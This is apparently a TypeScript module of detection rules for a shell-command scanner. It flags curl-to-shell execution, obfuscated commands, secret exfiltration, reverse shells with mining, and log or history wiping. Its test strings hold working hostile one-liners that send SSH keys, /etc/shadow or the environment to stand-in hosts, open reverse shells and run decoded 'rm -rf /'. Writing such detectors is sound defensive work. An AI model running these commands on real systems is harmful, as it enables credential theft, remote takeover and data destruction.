import type { Command } from '../read/shell.ts'
import { commandRule, type Rule } from '../rule.ts'
import { hasFlag, ownMachine } from './words.ts'

const isShell = /^(?:ba|z|da|k|a|fi)?sh$/
const isInterpreter =
  /^(?:(?:ba|z|da|k|a|fi)?sh|python[\d.]*|perl|ruby|node|php|lua|pwsh|powershell|osascript|iex|source|\.|eval)$/i
const downloads = /^(?:curl|wget|fetch|http|https|aria2c|iwr|Invoke-WebRequest|nc|ncat)$/i
const decodes = ({ program, args }: Command): boolean =>
  (program === 'base64' && args.some(arg => /^(?:-d|-D|--decode|-di)$/.test(arg))) ||
  (program === 'xxd' && args.some(arg => /r/.test(arg) && arg.startsWith('-'))) ||
  (program === 'openssl' && args.includes('-d')) ||
  /^(?:rev|uudecode|base32|gunzip|zcat|tr)$/.test(program)

const scriptInterpreter = /^(?:python[\d.]*|perl|ruby|node|deno|bun|php)$/
const asksNet =
  /\b(?:urlopen|urlretrieve|requests\.get|httpx?\.get|https?\.get|fetch|open-uri|URI\.open|Net::HTTP|LWP|file_get_contents|curl_exec|axios)\b|https?:\/\//
const runsText =
  /(?<![\w.])(?:exec|eval|compile|Function|instance_eval|class_eval|system|execSync|spawnSync|popen|runInNewContext)\s*[(\s]|\bos\.system\s*\(|\bsubprocess\.\w+\s*\(|\bvm\.run\w+\s*\(|`/

const secretPath =
  /(?:\.ssh\/id_|\.ssh\/?$|\.aws\/credentials|\.kube\/config|\/etc\/(?:shadow|passwd)|\.env\b|\.npmrc|\.pypirc|\.netrc|\.docker\/config|wallet\.dat|keystore|\.gnupg|id_(?:rsa|ed25519|ecdsa)\b|\.pem\b|secrets?\.(?:ya?ml|json)|\.git-credentials|\.bash_history|\.config\/gcloud|cookies\.sqlite|Login Data|\/etc\/ssl\/private|\/etc\/ssh\/ssh_host|\/etc\/kubernetes\/pki|\.(?:p12|pfx|jks|kdbx)\b|[\w-]\.key\b|\.vault-token|\.pgpass|\.my\.cnf|\.terraform\.d\/credentials|Keychains)/

const fileLists = new WeakMap<readonly Command[], readonly string[]>()

/** The files into which a script prints secrets; gathered once. */
const secretFiles = (all: readonly Command[]): readonly string[] => {
  let files = fileLists.get(all)
  if (!files) {
    files = all
      .filter(printsSecret)
      .flatMap(({ redirects }) => redirects.map(({ target }) => target))
      .filter(target => target !== '' && !target.startsWith('/dev/'))
      .slice(0, 20)
    fileLists.set(all, files)
  }
  return files
}

/** Commands that print secrets. */
const printsSecret = ({ program, args }: Command): boolean => {
  const words = args.join(' ')
  return (
    (/^gpg2?$/.test(program) && /--export-secret/.test(words)) ||
    (program === 'kubectl' && /\bget\s+secrets?\b/.test(words)) ||
    (program === 'aws' && /get-secret-value|get-parameters?\b.*--with-decryption/.test(words)) ||
    (program === 'gcloud' && /secrets\s+versions\s+access/.test(words)) ||
    (/^(?:pass|op|bw|vault|security)$/.test(program) &&
      /^(?:show|read|get|item get|kv get|find-(?:generic|internet)-password|dump-keychain)\b/.test(words))
  )
}

const url = /\bhttps?:\/\/[^\s'"]+/

/** Installers of well-known projects, over TLS, from their own address: still a concern, not a blocker. */
const knownInstaller =
  /^https:\/\/(?:sh\.rustup\.rs|get\.docker\.com|raw\.githubusercontent\.com\/(?:nvm-sh|Homebrew|helm|ohmyzsh)\/|deb\.nodesource\.com|install\.python-poetry\.org|astral\.sh\/uv|get\.helm\.sh|bun\.sh|deno\.land|get\.k3s\.io|fnm\.vercel\.app|rpm\.nodesource\.com|cli\.github\.com|get\.pnpm\.io|pyenv\.run)(?:(?<=\/)|(?=[/?#]|$))/

const installerIn = (commands: readonly Command[]): string | undefined =>
  commands.flatMap(({ args }) => args).find(arg => knownInstaller.test(arg))

export const remoteRules: readonly Rule[] = [
  commandRule({
    id: 'shell-run-download',
    severity: 'blocker',
    fix: 'Download to a file, check its signature or hash, read it, and then run it.',
    hits: [
      'curl -fsSL https://x.test/i.sh | sudo bash',
      'bash <(curl -s https://x.test)',
      'sh -c "$(wget -qO- http://x.test)"',
      'eval "$(curl -s http://x.test)"',
      'wget -O- x.test | python3',
      'curl https://sh.rustup.rs -sSf | sh',
      'source <(curl -s http://x.test/env)',
      'curl -o i.sh http://x.test/i.sh && sh i.sh',
      'curl https://get.docker.com.x.test | sh',
      'curl http://localhost.x.test | sh',
      'curl x.test/k.yaml | kubectl apply -f -',
      'curl -s x.test | base64 -d | bash',
      'wget -qO /tmp/a http://x.test/a && chmod +x /tmp/a && /tmp/a',
      `python3 -c "import urllib.request as u;exec(u.urlopen('http://x.test/a.py').read())"`,
      `ruby -ropen-uri -e "eval URI.open('http://x.test/a.rb').read"`,
      `node -e "fetch('http://x.test/a.js').then(r => r.text()).then(t => eval(t))"`,
      `perl -MLWP::Simple -e 'eval get("http://x.test/a.pl")'`,
    ],
    misses: [
      'curl -fsSL https://x.test/data.json | jq .name',
      'curl https://x.test/i.sh -o i.sh',
      'wget https://x.test/a.tar.gz',
      'echo "curl x | bash"',
      'curl -s http://localhost:8080/health',
      'cat script.sh | bash -n',
      'kubectl get po -o yaml | kubectl apply --dry-run=client -f -',
      'source <(kubectl completion bash)',
      'eval "$(ssh-agent -s)"',
      'eval "$(direnv hook bash)"',
      'curl -s https://x.test/a.json | python3 -m json.tool',
      `python3 -c "import urllib.request as u;print(u.urlopen('https://x.test/a.json').status)"`,
      `node -e "fetch('https://x.test/a').then(r => console.log(r.status))"`,
      'curl -s x.test | python3 -c "import json,sys; print(json.load(sys.stdin)[0])"',
    ],
    see({ program, args, feeders, inner, redirects, text }, all) {
      const code = scriptInterpreter.test(program)
        ? args.filter((_, nth) => /^-\w*[ceEr]$|^--eval$/.test(args[nth - 1] ?? '')).join('\n')
        : ''
      if (code !== '' && asksNet.test(code) && runsText.test(code) && !ownMachine.test(code))
        return 'It runs what another machine sends, unread.'
      const runsInput =
        isInterpreter.test(program) &&
        !args.some(arg => /^-(?:n|m|c)$/.test(arg)) &&
        !args.some(arg => /\.(?:py|js|rb|sh|pl)$/.test(arg))
      const source = [...feeders, ...inner].filter(({ program }) => downloads.test(program))
      const own = source.every(({ args }) => args.some(arg => ownMachine.test(arg)))
      const runsInner = isInterpreter.test(program) && inner.some(({ program }) => downloads.test(program))
      if (
        source.length > 0 &&
        !own &&
        ((runsInput && feeders.some(({ program }) => downloads.test(program))) ||
          runsInner ||
          (redirects.length > 0 && runsInput))
      ) {
        const installer = installerIn(source)
        return installer
          ? { detail: `It runs what ${installer} sends, unread.`, severity: 'high' }
          : 'It runs what another machine sends, unread.'
      }
      if (
        program === 'kubectl' &&
        feeders.some(({ program }) => downloads.test(program)) &&
        args.includes('apply')
      )
        return { detail: 'It applies what another machine sends, unread.', severity: 'high' }
      if (
        (program === 'kubectl' || program === 'oc') &&
        args.some((arg, nth) => (args[nth - 1] === '-f' && url.test(arg)) || /^--filename=http/.test(arg)) &&
        /^(?:apply|create)$/.test(args[0] ?? '')
      )
        return { detail: 'It applies what another machine sends, unread.', severity: 'medium' }
      const file = args.find(arg => /^[\w./-]+$/.test(arg) && !arg.startsWith('-'))
      const path = isInterpreter.test(program) ? file : /^(?:\.{1,2}|~)?\/\S+/.exec(text)?.[0]
      if (path === undefined) return
      const name = path.slice(path.lastIndexOf('/') + 1)
      const fetched = all.some(
        other =>
          /^(?:curl|wget|aria2c)$/.test(other.program) &&
          (other.args.some(
            (arg, nth) => /^-[a-zA-Z]*[oO]$|^--output$/.test(other.args[nth - 1] ?? '') && arg.endsWith(name),
          ) ||
            other.redirects.some(({ target }) => target.endsWith(name)) ||
            ((other.program === 'wget' || hasFlag(other.args, 'O')) &&
              other.args.some(arg => url.test(arg) && arg.endsWith(`/${name}`)))),
      )
      const isChecked = all.some(
        ({ program, args }) =>
          /^(?:sha\d+sum|shasum|gpg|cosign|minisign)$/.test(program) || args.includes('--checksum'),
      )
      return (
        fetched &&
        !isChecked && { detail: `It runs ${name}, which it has just downloaded.`, severity: 'high' }
      )
    },
  }),
  commandRule({
    id: 'shell-obfuscated',
    severity: 'blocker',
    fix: 'Write the command out, so that it can be read.',
    hits: [
      'echo cm0gLXJmIC8= | base64 -d | sh',
      'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
      'echo 726d | xxd -r -p | bash',
      'rm${IFS}-rf${IFS}/',
      'powershell -enc SQBFAFgA',
      "$(printf '\\162\\155') -rf x",
      "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQ'))\"",
    ],
    misses: [
      'base64 -d cert.b64 > cert.pem',
      'echo hello | base64',
      'kubectl get secret x -o json | jq -r .data.x | base64 -d',
      'eval "$(ssh-agent)"',
      '"$EDITOR" notes.md',
      '$PYTHON -m pytest',
    ],
    see({ program, args, feeders, inner, text }) {
      if (
        (isShell.test(program) || /^(?:python3?|perl|ruby|node)$/.test(program)) &&
        feeders.some(decodes) &&
        !args.some(arg => /^-(?:m|c|n)$/.test(arg))
      )
        return 'It runs what it decodes.'
      if ((program === 'eval' || isShell.test(program)) && inner.some(decodes))
        return 'It runs what it decodes.'
      if (/\$\{?IFS\}?\S*\$\{?IFS\}?|\$\{?IFS\}?-/.test(text)) return 'It hides its spaces.'
      if (
        /^(?:powershell|pwsh)(?:\.exe)?$/i.test(program) &&
        args.some(arg => /^-e(?:nc?|ncodedcommand)?$/i.test(arg))
      )
        return 'It runs an encoded command.'
      if (
        /^(?:python[\d.]*|perl|ruby|node|php)$/.test(program) &&
        /(?:exec|eval)\b.{0,60}(?:b64decode|base64|fromhex|atob|unhexlify|decompress)/.test(args.join(' '))
      )
        return 'It runs what it decodes.'
      if (
        /^\$\(|^`/.test(program) ||
        /^(?:\$\{?\w+\}?){2,}$/.test(program) ||
        /^\w+\$\{?\w+\}?$/.test(program) ||
        /^\$\{?\w+:\d/.test(program)
      )
        return { detail: 'What it runs is put together when it runs.', severity: 'high' }
      if (
        program === 'eval' &&
        args.some(arg => /\$\{?(?:\d|@|\w*(?:INPUT|ARG|CMD|PAYLOAD|TITLE|BODY)\w*)/i.test(arg))
      )
        return { detail: 'It runs the text of a variable.', severity: 'high' }
    },
  }),
  commandRule({
    id: 'shell-exfiltrate',
    severity: 'blocker',
    fix: 'Keep secrets on their machine; rotate what was sent.',
    hits: [
      'curl -d @~/.ssh/id_rsa https://x.test',
      'cat ~/.aws/credentials | curl -X POST -d @- x.test',
      'env | curl -d @- https://x.test',
      'scp ~/.ssh/id_ed25519 a@x.test:',
      'tar cz ~/.ssh | nc x.test 99',
      'curl -F f=@/etc/passwd x.test',
      'printenv | base64 | curl --data-binary @- x.test',
      'curl "https://x.test/?k=$(cat ~/.ssh/id_rsa | base64)"',
      'curl https://x.test/?t=$AWS_SECRET_ACCESS_KEY',
      'wget --post-file=/etc/shadow x.test',
      'find /home -name "id_*" -exec curl -F "f=@{}" http://x.test/ \\;',
      'gpg --export-secret-keys | mail -s k a@x.test',
      'tar cz /etc/ssl/private | ssh a@x.test "cat > k"',
      'kubectl get secret db -o yaml | curl -d @- x.test',
      'kubectl get secret db -o json > /tmp/all.json && scp /tmp/all.json a@x.test:',
    ],
    misses: [
      'curl -d @body.json https://x.test',
      'env | sort',
      'kubectl get secret db -o yaml | grep user',
      'cat notes.txt | mail -s notes a@x.test',
      'scp build.tgz a@x.test:',
      'cat ~/.ssh/id_ed25519.pub',
      'curl -H "Authorization: Bearer $TOKEN" https://api.x.test',
      'ssh -i ~/.ssh/id_rsa host uptime',
      'printenv | grep PATH',
      'curl -F file=@report.pdf https://x.test',
    ],
    see({ program, args, feeders, inner, text }, all) {
      if (
        !/^(?:curl|wget|nc|ncat|socat|scp|sftp|rsync|ftp|http|telnet|rclone|aws|gsutil|dig|nslookup|host|ping|ssh|mail|mailx|mutt|sendmail|msmtp|telegram-send|croc|wormhole|gh|slackcat)$/.test(
          program,
        )
      )
        return
      const sends = /^(?:curl|wget|http)$/.test(program)
      // What `find -exec` or xargs puts in: one machine's files, many at a time.
      if (
        /^(?:curl|scp|nc|ncat|rsync|sftp|ftp|http)$/.test(program) &&
        args.some(arg => /\{\}/.test(arg)) &&
        (args.some(arg => /^(?:-F|-T|-d|--data\S*|--upload-file|--form)$|@\{\}/.test(arg)) ||
          program !== 'curl')
      )
        return 'It sends every file that is found.'
      const isKeyOption = (nth: number) =>
        /^(?:-i|--key|--cert|-E|--cacert|-H|--header|-u|--identity)$/.test(args[nth - 1] ?? '')
      const readsSecret = (words: readonly string[]) =>
        words.some(word => secretPath.test(word) && !/\.pub\b|\.example|\.sample/.test(word))
      if (
        (program === 'scp' || program === 'rsync' || program === 'sftp') &&
        args.some((arg, nth) => !isKeyOption(nth) && secretPath.test(arg) && !/\.pub$/.test(arg)) &&
        args.some(arg => arg.includes(':'))
      )
        return 'It copies a secret to another machine.'
      if (/^(?:aws|gsutil|rclone)$/.test(program))
        return args.includes('cp') && readsSecret(args) && 'It copies a secret to another place.'
      if (
        feeders.some(
          ({ program, args }) => /^(?:env|printenv|set|export)$/.test(program) && args.length === 0,
        )
      )
        return 'It sends the environment to another machine.'
      if (args.some(arg => secretFiles(all).some(file => arg.endsWith(file))))
        return 'It sends a secret to another machine.'
      if (feeders.some(feeder => readsSecret(feeder.args) || printsSecret(feeder)))
        return 'It sends a secret to another machine.'
      if (
        inner.some(
          ({ program, args }) =>
            readsSecret(args) || (/^(?:env|printenv)$/.test(program) && args.length === 0),
        )
      )
        return 'It sends a secret to another machine.'
      if (
        sends &&
        args.some(
          (arg, nth) =>
            !isKeyOption(nth) && /@|post-file/.test(arg) && secretPath.test(arg) && !/\.pub\b/.test(arg),
        )
      )
        return 'It sends a secret to another machine.'
      if (
        sends &&
        args.some(
          (arg, nth) =>
            !isKeyOption(nth) &&
            secretPath.test(arg) &&
            /^(?:-T|--upload-file|--data-binary|-d)$/.test(args[nth - 1] ?? ''),
        )
      )
        return 'It sends a secret to another machine.'
      return (
        sends &&
        /[?&/=]\$\{?\w*(?:SECRET|PASSWORD|PRIVATE_KEY|MNEMONIC)\w*/i.test(text) &&
        !/-H\s/.test(text) &&
        'It puts a secret into an address.'
      )
    },
  }),
  commandRule({
    id: 'shell-reverse-shell',
    severity: 'blocker',
    fix: 'Do not run it.',
    hits: [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'nc -e /bin/sh 10.0.0.1 4444',
      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 99 > /tmp/f',
      'socat exec:bash tcp:10.0.0.1:99',
      "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',99));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh'])\"",
      'xmrig -o stratum+tcp://pool.test:3333',
      'ncat 10.0.0.1 99 -c bash',
    ],
    misses: [
      'nc -zv db.internal 5432',
      'timeout 5 bash -c "</dev/tcp/127.0.0.1/5432"',
      'ssh -L 8080:localhost:80 host',
      'python3 -c "import socket; print(socket.gethostname())"',
      'bash -i',
    ],
    see({ program, args, redirects, feeders, text }) {
      // With nothing to read or write a connection only tells whether somebody listens.
      const isProbe =
        /<\s{0,2}\/dev\/tcp\/(?:localhost|127\.0\.0\.1|\$?\w+)\/\$?\w+(?!\s*>)/.test(text) &&
        !/\bsh\s+-i\b|[&>]\s{0,2}\/dev\/|[012]>&/.test(text)
      if (
        !isProbe &&
        (redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target)) ||
          /\/dev\/(?:tcp|udp)\/[\w.$]+\/\d+/.test(text))
      )
        return 'It gives another machine a shell.'
      if (
        /^(?:nc|ncat|netcat)$/.test(program) &&
        (args.some(arg => /^-[a-z]*[ec]$|^--(?:sh-)?exec$/.test(arg)) ||
          feeders.some(({ program }) => isShell.test(program)))
      )
        return 'It gives another machine a shell.'
      if (program === 'socat' && /exec:|system:/i.test(args.join(' ')))
        return 'It gives another machine a shell.'
      if (
        /^(?:python[\d.]*|perl|ruby|php|node)$/.test(program) &&
        /socket/i.test(text) &&
        /(?:dup2|\/bin\/(?:ba)?sh|pty\.spawn|subprocess|child_process)/.test(args.join(' '))
      )
        return 'It gives another machine a shell.'
      return (
        /stratum\+(?:tcp|ssl):|^xmrig$|--donate-level|minerd/.test(`${program} ${args.join(' ')}`) &&
        'It mines for somebody else.'
      )
    },
  }),
  commandRule({
    id: 'shell-cover-tracks',
    severity: 'high',
    fix: 'Leave logs and history as they are.',
    hits: [
      'history -c',
      'unset HISTFILE',
      'rm -f ~/.bash_history',
      'echo > /var/log/auth.log',
      'export HISTFILE=/dev/null',
      'auditctl -e 0',
      'wevtutil cl Security',
      'journalctl --rotate --vacuum-time=1s',
      'ln -sf /dev/null ~/.bash_history',
      'HISTSIZE=0',
    ],
    misses: [
      'history | tail',
      'tail -f /var/log/auth.log',
      'journalctl -u nginx',
      'journalctl --vacuum-time=30d',
      'export HISTSIZE=10000',
      'rm old.log',
    ],
    see({ program, args, redirects, assignments, text }) {
      if (program === 'history' && hasFlag(args, 'c')) return 'It deletes the history.'
      if (program === 'unset' && args.includes('HISTFILE')) return 'It keeps no history.'
      if (
        /^HIST(?:FILE=\/dev\/null|(?:FILE)?SIZE=0)$/.test(
          [
            ...assignments.map(({ name, value }) => `${name}=${value}`),
            ...(program === 'export' ? args : []),
          ].find(word => word.startsWith('HIST')) ?? '',
        )
      )
        return 'It keeps no history.'
      if (
        /^(?:rm|shred|truncate|ln)$/.test(program) &&
        args.some(arg =>
          /\.(?:bash|zsh|sh)_history$|^\/var\/log\/(?:auth|secure|audit|wtmp|btmp|syslog|lastlog)/.test(arg),
        )
      )
        return 'It deletes a history or a log.'
      if (redirects.some(({ operator, target }) => operator === '>' && /^\/var\/log\//.test(target)))
        return 'It empties a log.'
      if (program === 'auditctl' && /-e 0|-D/.test(args.join(' '))) return 'It stops the audit.'
      if (program === 'wevtutil' && args[0] === 'cl') return 'It empties a log.'
      return (
        program === 'journalctl' &&
        /--vacuum-(?:time=\d{1,3}(?:s|sec|m|min)?\b|size=\d[KM]?\b)/.test(text) &&
        !/\dd\b/.test(text) &&
        'It empties the journal.'
      )
    },
  }),
]
